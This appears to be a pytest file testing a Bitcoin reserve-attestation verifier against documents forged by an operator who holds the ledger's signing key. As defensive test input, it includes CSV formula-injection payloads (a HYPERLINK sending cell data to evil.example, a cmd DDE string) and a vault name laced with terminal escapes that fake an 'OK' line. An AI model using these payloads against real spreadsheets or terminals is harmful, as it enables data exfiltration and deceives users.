"""Attestations and proofs of control attacked offline: what a dishonest operator (who holds the
ledger's signing key) can change in a document and which check still refuses it."""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import io
import json
import re
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from custody.errors import PolicyViolation
from custody.merkleblock import BlockHeader, MerkleBlock, retarget_findings, target_from_bits
from ledger.attest import control, verify_doc
from ledger.attest.document import sign_document
from ledger.attest.verify_doc import SEARCH_LIMIT, node_findings, search_end, verify_attestation
from ledger.journal.book import StoredEntry
from ledger.journal.checkpoint import public_key_pem
from ledger.report.export import write_csv, write_jsonl
from tests.unit.test_attestation_doc import VAULT, json_hash, synthetic
from tests.unit.test_bip322 import MESSAGE, _outs, _sign, _vault
from tests.unit.test_merkleblock import build, compact, header_with_root, sha256d


@pytest.fixture(scope="module")
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture(scope="module")
def doc(key: Ed25519PrivateKey) -> dict[str, Any]:
    return synthetic(key)


def test_the_node_names_outputs_left_out(doc: dict[str, Any]) -> None:
    """Outputs of a vault's scripts the node knows were unspent at H (in its UTXO set now and
    created at or below H, or spent after H) but missing from the document are findings; those
    created after H, and those listed, are not."""
    outs = [(o["txid"], o["vout"]) for o in doc["vaults"][0]["outputs"]]
    hashes = {1: json_hash(doc, 0), 2: doc["block_hash"]}
    script = bytes.fromhex(doc["vaults"][0]["outputs"][0]["script_pubkey"])
    listed = [(t, v, script, 1) for t, v in outs]
    hidden_now, later, hidden_spent = ("aa" * 32, 0, script, 2), ("bb" * 32, 1, script, 3), ("cc" * 32, 4)
    assert node_findings(doc, hashes, set(outs), {}, [*listed, later], {script: "cold"}) == []
    found = node_findings(
        doc, hashes, set(outs), {hidden_spent: ("dd" * 32, 3)}, [*listed, hidden_now], {script: "cold"}
    )
    assert len(found) == 2, found
    assert f"output {'aa' * 32}:0 of vault cold (block 2) is unspent now" in found[0]
    assert f"output {'cc' * 32}:4 of an attested vault was unspent at height 2" in found[1]
    assert all("is not attested" in f for f in found)


def test_one_holders_two_keys_count_once_in_a_proof_of_control() -> None:
    """A holder may hold several keys as long as they alone do not reach the threshold (``vault
    add`` accepts 3-of-5 held a, a, b, c, d): the proof of control, like a spend's approvals,
    needs the threshold of distinct holders. Here bob's key is held by ann: ann signing with both
    keys is two keys but one holder, refused at finish and by the verifier; ann and cat pass."""
    vault = dataclasses.replace(_vault(), holders=("ann", "ann", "cat"))
    [(_, proposal)] = control.prepare(vault, _outs(vault), MESSAGE)
    one_holder = control.add_signed(
        control.add_signed(proposal, _sign(proposal, "ann")), _sign(proposal, "bob")
    )
    with pytest.raises(PolicyViolation, match="distinct holders"):
        control.finalize(one_holder, vault, MESSAGE)
    # the same proof, finished with honest holder names, then presented under vault's names
    honest = control.finalize(one_holder, _vault(), MESSAGE)
    findings = control.verify(honest, str(vault.descriptor), MESSAGE, vault.holders)
    assert findings and "distinct holders" in findings[0], findings
    two = control.add_signed(control.add_signed(proposal, _sign(proposal, "ann")), _sign(proposal, "cat"))
    proof = control.finalize(two, vault, MESSAGE)
    assert proof["signers"] == ["ann", "cat"]
    assert control.verify(proof, str(vault.descriptor), MESSAGE, vault.holders) == ()


# --- the entry export's CSV opened in a spreadsheet -------------------------------------------------


def _stored(seq: int, memo: str, ref: str | None = None) -> StoredEntry:
    return StoredEntry(
        seq, "manual", dt.date(2026, 3, 1), memo, ref, None, None, None, None, None, b"\x00" * 32,
        (("cold", "vault", -5), ("fees", "expense", 5)),
    )  # fmt: skip


@pytest.mark.parametrize(
    "memo",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'quoted"],
)
def test_a_memo_that_a_spreadsheet_would_run_is_written_as_text(memo: str) -> None:
    """A memo (or ref) starting with = + - @ (or a tab or carriage return) is a formula to a
    spreadsheet: the CSV writes it behind an apostrophe (OWASP), and one starting with an
    apostrophe gets a second one, so dropping one leading apostrophe always gives the memo back.
    Amounts (negative ones start with -) are numbers and stay as they are; the JSONL is exact."""
    out = io.StringIO()
    write_csv([_stored(1, memo, ref=memo)], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    header, first = rows[0], rows[1]
    cells = dict(zip(header, first, strict=True))
    assert cells["memo"] == "'" + memo and cells["ref"] == "'" + memo
    assert cells["amount_sat"] == "-5" and cells["amount_btc"].startswith("-")
    assert json.loads(io_jsonl(memo))["memo"] == memo


def io_jsonl(memo: str) -> str:
    out = io.StringIO()
    write_jsonl([_stored(1, memo)], out)
    return out.getvalue()


def test_the_node_search_for_left_out_outputs_is_bounded(doc: dict[str, Any]) -> None:
    """`attest verify --node` derives each vault's scripts up to --gap past the highest index the
    document names; a document naming a huge index (valid BIP-32, index < 2^31) must not make the
    auditor derive billions of scripts: the search stops at SEARCH_LIMIT addresses per branch."""
    vault = copy.deepcopy(doc["vaults"][0])
    assert search_end(vault, 1000) == max(o["index"] for o in vault["outputs"]) + 1 + 1000
    vault["outputs"][0]["index"] = 2**31 - 1
    assert search_end(vault, 1000) == SEARCH_LIMIT
    assert search_end({"outputs": []}, 7) == 7


def test_a_hostile_document_cannot_write_escape_sequences_to_the_auditors_terminal(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The document is the other side's text: a vault name (or any string) carrying terminal
    escapes, bidirectional overrides or line breaks is shown escaped in every verdict line."""
    hostile = copy.deepcopy(doc)
    hostile["vaults"][0]["name"] = "cold\x1b]0;all good\x07\x1b[2J\u202eok\nOK: the attestation verifies"
    result = verify_attestation(sign_document(hostile, key), [public_key_pem(key)])
    assert not result.ok
    text = "\n".join(result.lines())
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text), text
    assert all("\n" not in line for line in result.lines())
    assert "\\x1b" in text and "\\u202e" in text and "\\n" in text


# --- what held: each re-signed by the ledger's own key, each refused by its check -------------------


def _resigned(doc: dict[str, Any], key: Ed25519PrivateKey, change: Callable[[dict[str, Any]], None]) -> Any:
    changed = copy.deepcopy(doc)
    change(changed)
    return verify_attestation(sign_document(changed, key), [public_key_pem(key)])


def test_one_output_claimed_by_two_vaults_is_refused(doc: dict[str, Any], key: Ed25519PrivateKey) -> None:
    def twice(d: dict[str, Any]) -> None:
        other = copy.deepcopy(d["vaults"][0])
        other["name"] = other["account"] = "warm"
        d["vaults"].append(other)
        d["totals"]["chain"] *= 2
        d["totals"]["difference"] = d["totals"]["chain"] - d["totals"]["ledger"]

    result = _resigned(doc, key, twice)
    assert "outputs" in result.failed and "listed twice" in " ".join(result.check("outputs").findings)


def test_a_merkle_proof_of_another_transaction_of_the_same_block_is_refused(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The block's real proof, but for its first transaction only (a valid gettxoutproof of the
    same block): the attested transactions are then proven nowhere."""
    block = next(iter(doc["proofs"]))
    proof = MerkleBlock.from_hex(doc["proofs"][block])
    txids = [bytes.fromhex(t)[::-1] for t in (*_leaves(doc),)]
    root, hashes, flags = build(txids, [True] + [False] * (len(txids) - 1))
    assert root[::-1].hex() == proof.header.merkle_root
    other = proof.header.raw + struct.pack("<I", len(txids)) + compact(len(hashes)) + b"".join(hashes)
    other += compact(len(flags)) + flags

    result = _resigned(doc, key, lambda d: d["proofs"].__setitem__(block, other.hex()))
    assert result.failed == ("outputs",), result.lines()
    assert "no valid Merkle proof shows transaction" in result.check("outputs").findings[0]


def _leaves(doc: dict[str, Any]) -> list[str]:
    """The synthetic block's txids in block order: the filler, then the two attested ones."""
    filler = sha256d(b"coinbase")[::-1].hex()
    return [filler, *sorted(doc["transactions"], key=lambda t: _block_order(doc, t))]


def _block_order(doc: dict[str, Any], txid: str) -> int:
    matched = MerkleBlock.from_hex(next(iter(doc["proofs"].values()))).matched_txids()
    return matched.index(txid)


def test_headers_that_link_but_end_elsewhere_or_skip_heights_are_refused(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    first = BlockHeader.from_hex(doc["headers"]["hex"][0])
    # a header of our own, linked to the first, claimed as block H
    fake = header_with_root(sha256d(b"fake"), prev=bytes.fromhex(first.hash)[::-1]).hex()

    def swap(d: dict[str, Any]) -> None:
        d["headers"]["hex"][1] = fake
        d["block_hash"] = BlockHeader.from_hex(fake).hash

    assert _resigned(doc, key, swap).ok  # offline, a linked header is as good as any: the node decides
    short = _resigned(doc, key, lambda d: d["headers"]["hex"].pop())
    assert "headers" in short.failed
    low = _resigned(doc, key, lambda d: d.__setitem__("network", "main"))  # regtest work on mainnet
    assert "easier than the network's limit" in " ".join(low.check("headers").findings)


def test_a_vault_listed_twice_is_refused(doc: dict[str, Any], key: Ed25519PrivateKey) -> None:
    """Split into two entries of the same name, each with part of the outputs, a vault would show
    its whole ledger balance twice (each a deficit) while every sum still adds up."""

    def split(d: dict[str, Any]) -> None:
        first, second = copy.deepcopy(d["vaults"][0]), copy.deepcopy(d["vaults"][0])
        first["outputs"], second["outputs"] = first["outputs"][:1], first["outputs"][1:]
        for v in (first, second):
            v["chain_amount"] = sum(o["amount"] for o in v["outputs"])
            v["difference"] = v["chain_amount"] - v["ledger_amount"]
        d["vaults"] = [first, second]

    result = _resigned(doc, key, split)
    assert "balances" in result.failed, result.lines()
    assert "listed 2 times" in " ".join(result.check("balances").findings)


def _paths(x: Any, p: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if p:
        yield p
    children = x.items() if isinstance(x, dict) else enumerate(x) if isinstance(x, list) else ()
    for k, v in children:
        yield from _paths(v, (*p, k))


def test_any_field_of_any_type_fails_a_check_and_never_raises(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The auditor's verifier reads the other side's JSON: every field replaced by a value of
    another type (or out of range) is a finding, never a traceback, signed or not."""
    pems = [public_key_pem(key)]
    values: tuple[Any, ...] = (None, "x", [], {}, 2**70, 1.5, True)
    for path in _paths(doc):
        if path[0] == "signature":  # sign_document writes it again
            continue
        for value in values:
            changed = copy.deepcopy(doc)
            holder = changed
            for step in path[:-1]:
                holder = holder[step]
            holder[path[-1]] = value
            try:
                result = verify_attestation(sign_document(changed, key), pems)
            except Exception as exc:
                raise AssertionError(f"{path} = {value!r} raised {exc!r}") from exc
            # a holder's name is bound by the vault-added record's keys, which this synthetic
            # record leaves out (the integration test renames holders of a real one)
            renamed = path[-2:-1] == ("holders",) and value == "x"
            if value != doc_value(doc, path) and not renamed:
                assert not result.ok, (path, value)


def doc_value(doc: dict[str, Any], path: tuple[Any, ...]) -> Any:
    value: Any = doc
    for step in path:
        value = value[step]
    return value


# --- a forged block on top of real headers -------------------------------------------------------


def _header(bits: int, n: int) -> BlockHeader:
    return BlockHeader(4, "00" * 32, "00" * 32, 1_700_000_000 + n, bits, n, bytes([n % 256]) * 80)


def test_a_header_whose_difficulty_changes_between_retargets_is_refused() -> None:
    """Real headers S..H-1 and a forged block H of minimum difficulty (cheap to mine) holding a
    made-up transaction: each header meets its own target, but on mainnet (and signet) nBits
    changes only every 2016 blocks, by at most a factor of 4; regtest never retargets."""
    real = 0x17034219
    chain = [_header(real, i) for i in range(5)]
    assert retarget_findings(chain, 840_000, "main") == []
    forged = [*chain[:4], _header(0x1D00FFFF, 4)]
    [finding] = retarget_findings(forged, 840_000, "main")
    assert "height 840004" in finding and "1d00ffff" in finding and "17034219" in finding
    # at a retarget boundary the target may move within a factor of 4, no more
    across = [_header(real, 0), _header(real, 1)]
    assert retarget_findings(across, 2016 * 417 - 1, "main") == []
    quadrupled = target_from_bits(real) * 4
    eased = [_header(real, 0), _header(_bits_of(quadrupled), 1)]
    assert retarget_findings(eased, 2016 * 417 - 1, "main") == []
    too_easy = [_header(real, 0), _header(_bits_of(quadrupled * 2), 1)]
    assert "factor of 4" in retarget_findings(too_easy, 2016 * 417 - 1, "main")[0]
    assert retarget_findings([_header(0x207FFFFF, 0), _header(0x2000FFFF, 1)], 5, "regtest")
    assert retarget_findings(forged, 840_000, "testnet4") == []  # 20-minute rule: not checked


def _bits_of(target: int) -> int:
    size = (target.bit_length() + 7) // 8
    mantissa = target >> 8 * (size - 3) if size > 3 else target << 8 * (3 - size)
    if mantissa & 0x00800000:
        mantissa >>= 8
        size += 1
    return size << 24 | mantissa


# --- read nothing twice: repeated keys and unknown fields ----------------------------------------


def _repeat_first(text: str, key: str, first: Any, nth: int = 0) -> str:
    """``text`` with the ``nth`` ``"key": `` preceded by ``"key": first,``: a reader keeping the
    first value sees ``first``; Python's json keeps the real (last) one."""
    marker = f'"{key}": '
    at = -1
    for _ in range(nth + 1):
        at = text.index(marker, at + 1)
    return text[:at] + f"{marker}{json.dumps(first)}, " + text[at:]


def test_repeated_keys_at_any_depth_are_refused(
    doc: dict[str, Any], key: Ed25519PrivateKey, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The signature covers Python's reading (the last value); another reader takes the first.
    One file, two documents: refused before any check, naming the key and where it is."""
    pem, path = tmp_path / "pub.pem", tmp_path / "att.json"
    pem.write_bytes(public_key_pem(key))
    text = json.dumps(doc, indent=1)
    assert '"amount": ' in text
    cases = {
        # a reader keeping the first value sees a 1 BTC output
        _repeat_first(
            text, "amount", 100_000_000
        ): "'amount' in one object (at $.vaults[0].outputs[0].amount)",
        _repeat_first(text, "tree_size", 1): "(at $.ledger.checkpoint.tree_size)",
        text.replace('"key_id": ', '"key_id": "00", "key_id": ', 2): "(at $.ledger.checkpoint.key_id)",
    }
    path.write_text(text)
    assert verify_doc.main([str(path), "--pubkey", str(pem)]) == 0
    capsys.readouterr()
    for bad, where in cases.items():
        assert json.loads(bad) == doc  # Python alone would verify it
        path.write_text(bad)
        assert verify_doc.main([str(path), "--pubkey", str(pem)]) == 1
        out = capsys.readouterr().out
        assert out.startswith("FAIL: ") and "repeats the key" in out and where in out, out
        with pytest.raises(ValueError, match="repeats the key"):
            verify_doc.load_document(str(path))


def test_unknown_fields_at_any_level_fail_format_naming_them(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """Signed by the ledger's key, still refused: a field the format does not define is read by
    no verifier, so a document cannot say more than what is checked."""

    def add(d: dict[str, Any]) -> None:
        d["audited_by"] = "big-four"
        d["vaults"][0]["outputs"][1]["note"] = "cold storage"
        d["ledger"]["checkpoint"]["balances"] = {VAULT: 1}
        d["totals"]["pending"] = 0

    result = _resigned(doc, key, add)
    assert result.failed == ("format",), result.lines()
    findings = result.check("format").findings
    assert [f.split(":")[0] for f in findings] == [
        "unknown field 'audited_by' at $.audited_by",
        "unknown field 'note' at $.vaults[0].outputs[1].note",
        "unknown field 'pending' at $.totals.pending",
        "unknown field 'balances' at $.ledger.checkpoint.balances",
    ]
    assert all("reserve-ledger-attestation/v1 defines no such field" in f for f in findings)
    # the other checks still ran and said what they saw
    assert result.check("signature").ok and result.check("reserves").ok
    # a proof of control's fields are closed too
    control = {"format": "reserve-ledger-proof-of-control/v1", "message": "", "proofs": [{"extra": 1}]}
    result = _resigned(doc, key, lambda d: d["vaults"][0].__setitem__("control", control))
    assert "unknown field 'extra' at $.vaults[0].control.proofs[0].extra" in " ".join(
        result.check("format").findings
    )


# --- say everything they saw: the chain against the books, per vault -----------------------------


def test_an_output_left_out_and_re_signed_is_a_shortfall_printed_on_its_vault(
    doc: dict[str, Any], key: Ed25519PrivateKey, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The 0.003 BTC output (and its transaction) left out, every stated sum made to agree and
    the document re-signed with the ledger's key: every integrity check passes, and the verdict
    still says the vault's chain is 0.003 BTC below its books (a failed ``reserves``)."""
    [gone] = [o for o in doc["vaults"][0]["outputs"] if o["amount"] == 300_000]

    def leave_out(d: dict[str, Any]) -> None:
        v = d["vaults"][0]
        v["outputs"] = [o for o in v["outputs"] if o["txid"] != gone["txid"]]
        del d["transactions"][gone["txid"]]
        v["chain_amount"] = sum(o["amount"] for o in v["outputs"])
        v["difference"] = v["chain_amount"] - v["ledger_amount"]
        d["totals"]["chain"], d["totals"]["difference"] = v["chain_amount"], v["difference"]

    result = _resigned(doc, key, leave_out)
    assert result.failed == ("reserves",) and result.integrity_failed == (), result.lines()
    [short] = result.check("reserves").findings
    assert "vault cold: the chain holds 0.00300000 BTC less than the books" in short
    assert (
        "      vault cold: chain 0.00051200 BTC (2 outputs proven), books 0.00351200 BTC, "
        "difference -0.00300000 BTC (0.00300000 BTC SHORT)"
    ) in result.lines()
    assert result.verdict() == "FAIL: reserves (chain below the books: vault cold 0.00300000 BTC short)"

    # the standalone verifier prints the same, and says what offline cannot see
    changed = copy.deepcopy(doc)
    leave_out(changed)
    pem, path = tmp_path / "pub.pem", tmp_path / "att.json"
    pem.write_bytes(public_key_pem(key))
    path.write_text(json.dumps(sign_document(changed, key)))
    assert verify_doc.main([str(path), "--pubkey", str(pem)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[-2] == verify_doc.OFFLINE_NOTE and "outputs left out of the document cannot be seen" in out[-2]
    assert out[-1].startswith("FAIL: reserves") and "difference -0.00300000 BTC" in "\n".join(out)
    # the honest document: each vault's figures, the note, a plain OK
    path.write_text(json.dumps(doc))
    assert verify_doc.main([str(path), "--pubkey", str(pem)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert "difference 0.00000000 BTC (equal)" in out[-3] and out[-2:] == [
        verify_doc.OFFLINE_NOTE,
        "OK: the attestation verifies",
    ]


def test_a_stated_difference_is_held_to_the_recomputed_one(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """A document claiming no difference for a vault short on chain: its sums fail, and so does
    the recomputation of the difference from the proven outputs and the checkpointed entries."""

    def claim_even(d: dict[str, Any]) -> None:
        d["vaults"][0]["outputs"].pop()
        d["vaults"][0]["chain_amount"] = sum(o["amount"] for o in d["vaults"][0]["outputs"])
        d["totals"]["chain"] = d["vaults"][0]["chain_amount"]

    result = _resigned(doc, key, claim_even)
    assert {"sums", "reserves"} <= set(result.failed), result.lines()
    assert any("states a difference of 0 sat" in f for f in result.check("reserves").findings)
    assert any("states a total difference of 0 sat" in f for f in result.check("reserves").findings)


def test_more_on_chain_than_in_the_books_is_ok_with_differences_named() -> None:
    from ledger.attest.verify_doc import Check, VaultFigures, Verification

    checks = tuple(Check(n, ()) for n in verify_doc.CHECKS)
    even, more = VaultFigures("cold", 2, 5, 5), VaultFigures("warm", 1, 7_000_000, 0)
    result = Verification(checks, (even, more))
    assert result.ok
    assert result.verdict() == (
        "OK: the attestation verifies, with differences not explained by the document: vault warm "
        "holds 0.07000000 BTC more on chain than in the books (deposits not yet booked, or spends "
        "booked before they confirmed)"
    )
    assert more.line().endswith("difference +0.07000000 BTC (0.07000000 BTC more on chain than in the books)")
    assert Verification(checks, (even,)).verdict() == "OK: the attestation verifies"
    assert result.verdict(["node"]) == "FAIL: node"


def test_deep_nesting_is_a_finding_never_a_traceback(doc: dict[str, Any], key: Ed25519PrivateKey) -> None:
    nested: Any = {"x": 1}
    for _ in range(800):
        nested = [nested]
    for where in ("vaults", "totals"):

        def deepen(d: dict[str, Any], w: str = where) -> None:
            d[w] = nested

        result = _resigned(doc, key, deepen)
        assert "format" in result.failed, result.lines()


def test_a_kept_row_must_hold_the_canonical_text_with_no_repeated_key(doc: dict[str, Any]) -> None:
    """A row whose text parses (last value wins) to the signed document but carries a repeated key,
    or other bytes than the ledger writes: `attest list` names it, as `attest show` and the site
    would hand that text out."""
    from ledger.attest.store import _findings
    from ledger.store.spend_models import AttestationRow

    canonical = verify_doc.canonical_bytes(doc).decode("ascii")
    body = {
        "sha256": verify_doc.document_sha256(doc),
        "height": doc["height"],
        "block_hash": doc["block_hash"],
    }

    def row(text: str) -> AttestationRow:
        return AttestationRow(
            id=7,
            height=doc["height"],
            block_hash=doc["block_hash"],
            document=text,
            sha256=body["sha256"],
            record_seq=4,
        )

    assert _findings(row(canonical), {4: body}) == ()
    repeated = canonical.replace('"amount":', '"amount":100000000,"amount":', 1)
    [finding] = _findings(row(repeated), {4: body})
    assert (
        "attestation #7: its stored document cannot be read" in finding
        and "repeats the key 'amount'" in finding
    )
    [finding] = _findings(row(json.dumps(doc, indent=1)), {4: body})
    assert "not the canonical JSON" in finding
